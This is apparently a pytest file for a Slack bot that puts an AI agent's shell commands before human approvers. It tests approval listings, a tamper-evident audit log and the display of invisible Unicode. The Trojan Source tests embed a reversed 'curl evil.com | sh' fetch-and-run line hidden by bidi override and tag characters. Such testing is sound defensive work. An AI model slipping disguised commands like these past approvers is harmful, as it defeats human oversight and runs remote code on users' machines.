"""What people can see: /approvals, the App Home tab, and the audit log."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re

import pytest

from bot.approvals import keys
from bot.approvals.audit import AuditLog
from bot.slack.ids import Action
from tests.conftest import cancelled, context, policy_file, posted
from tests.fakes.bot_settings import CHANNEL
from tests.fakes.slack_event_payloads import event_callback
from tests.fakes.slack_workspace import TEAM_DOMAIN
from tests.test_cli import run

POLICY = """
rules:
  - name: deploys
    tool: Bash
    command: "^kubectl "
    approvers: [U0ALICE, S0SRE]
"""


async def test_approvals_lists_what_the_caller_can_decide(tmp_path, start_worker, make_approver, slack):
    slack.usergroups["S0SRE"] = ["U0CAROL"]
    worker = await start_worker(approval_policy=policy_file(tmp_path, POLICY))
    approver = await make_approver(agent_name="release-bot")
    deploy = asyncio.create_task(
        approver.can_use_tool("Bash", {"command": "kubectl apply -f prod.yaml"}, context("toolu_l1"))
    )
    other = asyncio.create_task(
        approver.can_use_tool("Bash", {"command": "make <!channel> docs"}, context("toolu_l2"))
    )
    first, second = await posted(slack, 1), await posted(slack, 2)
    deploy_message = first if "kubectl" in first.text else second

    carol = await worker.command("U0CAROL")
    assert carol["response_type"] == "ephemeral"
    listed = str(carol["blocks"])
    assert "kubectl apply -f prod.yaml" in listed and "make &lt;!channel&gt; docs" in listed
    # The workspace's own URL (auth.test), the form chat.getPermalink answers with.
    assert (
        f"https://{TEAM_DOMAIN}.slack.com/archives/{CHANNEL}/p{deploy_message.ts.replace('.', '')}" in listed
    )
    assert "<!channel>" not in listed  # tool input cannot ping anyone

    mallory = await worker.command("U0MALLORY")
    assert "kubectl" not in str(mallory["blocks"]) and "make" in str(mallory["blocks"])

    await worker.click("U0CAROL", Action.APPROVE, deploy_message, name="carol")
    assert (await asyncio.wait_for(deploy, 5)).behavior == "allow"
    after = await worker.command("U0CAROL")
    assert "kubectl" not in str(after["blocks"])

    # App Home: the same list, and what Carol decided lately.
    assert (
        await worker.event(
            event_callback(
                {"type": "app_home_opened", "user": "U0CAROL", "channel": "D0CAROL", "tab": "home"}
            )
        )
        == 200
    )
    home = slack.home_views["U0CAROL"]
    shown = str(home["blocks"])
    assert "make &lt;!channel&gt; docs" in shown
    assert "Your recent decisions" in shown and ":white_check_mark: Approved request" in shown

    assert (await worker.command("U0CAROL", "what"))["text"].startswith(
        "`/approvals` lists the requests waiting"
    )
    other.cancel()
    await asyncio.gather(other, return_exceptions=True)


async def decided_log(start_worker, make_approver, slack) -> None:
    worker = await start_worker()
    approver = await make_approver()
    for n, verb in enumerate(("approve", "deny")):
        call = asyncio.create_task(
            approver.can_use_tool("Bash", {"command": f"make step{n}"}, context(f"toolu_audit{n}"))
        )
        message = await posted(slack, n + 1)
        if verb == "approve":
            await worker.click("U0ALICE", Action.APPROVE, message, name="alice")
        else:
            await worker.deny("U0BOB", message, 'no, "quoted", reason', name="bob")
        await asyncio.wait_for(call, 5)


async def test_every_transition_is_audited_and_the_chain_verifies(start_worker, make_approver, slack, redis):
    await decided_log(start_worker, make_approver, slack)
    log = AuditLog(redis)
    entries = [e async for e in log.entries()]
    events = [
        (e.fields["event"], e.fields["actor"], e.fields["state"]) for e in entries if e.fields["request"]
    ]
    assert ("created", "agent", "pending") in events and ("posted", "system", "pending") in events
    assert ("approved", "U0ALICE", "approved") in events and ("denied", "U0BOB", "denied") in events
    assert all(e.fields["input_hash"] for e in entries if e.fields["request"])
    verdicts = await log.verify_all()
    assert all(v.ok for v in verdicts) and sum(v.checked for v in verdicts) == len(entries)
    newest = {e.shard: e.fields["hash"] for e in entries}  # merged oldest first: the last of each shard wins
    assert {shard: v.head for shard, v in enumerate(verdicts) if v.checked} == newest


async def test_a_changed_or_removed_entry_is_detected_in_its_shard(start_worker, make_approver, slack, redis):
    await decided_log(start_worker, make_approver, slack)
    log = AuditLog(redis)
    chains = [keys.audit(shard).stream for shard in range(keys.SHARDS)]
    original = {stream: await redis.xrange(stream) for stream in chains}

    async def rewrite(stream: str, entries) -> None:
        await redis.delete(stream)
        for entry_id, fields in entries:
            await redis.xadd(stream, fields, id=entry_id)

    async def broken() -> list[tuple[str, str]]:
        """(stream, problem) of each shard whose chain fails."""
        return [(chains[shard], v.problem) for shard, v in enumerate(await log.verify_all()) if not v.ok]

    def holding(event: bytes) -> str:
        return next(
            stream for stream, entries in original.items() if any(f[b"event"] == event for _i, f in entries)
        )

    # Someone rewrites who denied the second request: its shard's chain fails, and only it.
    denied = holding(b"denied")
    await rewrite(
        denied,
        [(i, {**f, b"actor": b"U0ALICE"} if f[b"event"] == b"denied" else f) for i, f in original[denied]],
    )
    [(stream, problem)] = await broken()
    assert stream == denied and "was changed after it was written" in problem
    await rewrite(denied, original[denied])

    # Someone removes an entry from the middle of a chain instead: the approved request's post
    # (the approval itself may be its chain's newest entry now).
    approved = holding(b"approved")
    await rewrite(approved, [(i, f) for i, f in original[approved] if f[b"event"] != b"posted"])
    [(stream, problem)] = await broken()
    assert stream == approved and "the entry before it was removed or changed" in problem
    await rewrite(approved, original[approved])

    # Or drops the newest entries.
    await rewrite(denied, original[denied][:-2])
    [(stream, problem)] = await broken()
    assert stream == denied and "newest entries were removed" in problem

    await rewrite(denied, original[denied])
    assert all(v.ok for v in await log.verify_all())


@pytest.mark.slow
async def test_audit_command_exports_and_verifies(
    tmp_path, start_worker, make_approver, slack, redis, redis_server
):
    await decided_log(start_worker, make_approver, slack)

    code, out, err = await run("audit", cwd=tmp_path, REDIS_URL=redis_server.url)
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["event"] for r in rows if r["event"] in ("approved", "denied")] == ["approved", "denied"]
    assert all(r["hash"] and "prev" in r for r in rows)

    code, out, err = await run(
        "audit", "--format", "csv", "--since", "1h", cwd=tmp_path, REDIS_URL=redis_server.url
    )
    assert code == 0, err
    table = list(csv.DictReader(io.StringIO(out)))
    denied = next(r for r in table if r["event"] == "denied")
    assert (denied["actor"], denied["reason"]) == ("U0BOB", 'no, "quoted", reason')
    code, out, _ = await run("audit", "--since", "2999-01-01", cwd=tmp_path, REDIS_URL=redis_server.url)
    assert code == 0 and out == ""

    code, out, _ = await run("audit", "--verify", cwd=tmp_path, REDIS_URL=redis_server.url)
    assert code == 0 and out.startswith("shard 0: ok: ")
    assert sum(
        int(n) for n in re.findall(r"^shard \d+: ok: (\d+) entries, chain intact", out, re.MULTILINE)
    ) == len(rows)
    last = rows[-1]
    await redis.xdel(keys.audit(last["shard"]).stream, last["id"])
    code, out, _ = await run("audit", "--verify", cwd=tmp_path, REDIS_URL=redis_server.url)
    assert code == 1 and f"shard {last['shard']}: FAIL: the newest entries were removed" in out
    assert out.count("FAIL") == 1

    code, _out, err = await run("audit", "--since", "last tuesday", cwd=tmp_path, REDIS_URL=redis_server.url)
    assert code == 2 and "expected a date" in err


_UNSEEN_FORMAT = {
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "\U000e0041",
}
"""Characters a reader cannot see that change what they read: bidi embeddings, overrides and
isolates, marks, and a tag character (invisible "ASCII smuggling")."""


async def test_a_command_is_shown_as_it_runs_not_reordered_by_bidi_controls(
    start_worker, make_approver, slack
):
    """mrkdwn.clean() replaces C0 controls and lone surrogates but lets Unicode format characters
    through: U+202E (RIGHT-TO-LEFT OVERRIDE) in a command makes Slack's client draw the rest of
    the line reversed, so the approver reads other text than the shell will run (Trojan Source).
    bot/approvals/grants.py already refuses these in an Always-allow rule; the card itself, the
    notification text and View full input show them raw."""
    await start_worker()
    approver = await make_approver()
    command = "echo build ok #\u202e\u2066 ;hs | moc.live//:sptth lruc\u2069 \U000e0041"
    task = asyncio.create_task(approver.can_use_tool("Bash", {"command": command}, context("toolu_bidi")))
    message = await posted(slack)
    shown = json.dumps(message.blocks, ensure_ascii=False) + message.text
    raw = sorted(f"U+{ord(c):04X}" for c in _UNSEEN_FORMAT if c in shown)
    assert raw == [], f"shown raw, changing what the approver reads: {raw}"
    await cancelled(task)


def test_view_full_input_names_what_a_reader_cannot_see():
    from bot.slack.blocks.full_input import full_input_modal
    from tests.test_blocks import request

    command = "echo ok #\u202e sh | evil\u2069 \u200b\U000e0041 \u2028 \ue000"
    view = json.dumps(full_input_modal(request("Bash", {"command": command})), ensure_ascii=False)
    assert not any(c in view for c in _UNSEEN_FORMAT | {"\u2028", "\ue000"})
    assert "⟦U+202E⟧" in view and "⟦U+E0041⟧" in view and "⟦U+200B⟧" in view


def test_every_page_of_an_input_full_of_unseen_characters_is_a_valid_view():
    """Shown by name, each unseen character takes eight or nine characters: the pages are cut
    by what they show, so none is too long for Slack."""
    from bot.slack.block_kit_check import view_errors
    from bot.slack.blocks.full_input import full_input_modal
    from tests.test_blocks import request

    req = request("Bash", {"command": ("\u202e" * 3000 + "\U000e0041" * 3000 + "x") * 4})
    page, pages = 0, []
    while True:
        view = full_input_modal(req, page)
        assert view_errors(view) == []
        pages.append(view)
        if "Next page" not in json.dumps(view):
            break
        page += 1
    assert len(pages) > 1


def test_the_modify_form_fits_a_field_whose_unseen_characters_grow_when_named():
    from bot.slack.block_kit_check import view_errors
    from bot.slack.blocks.modals import modify_modal
    from tests.test_blocks import request

    view = modify_modal(request("Bash", {"command": "echo " + "\u202e" * 2000}))
    assert view_errors(view) == []
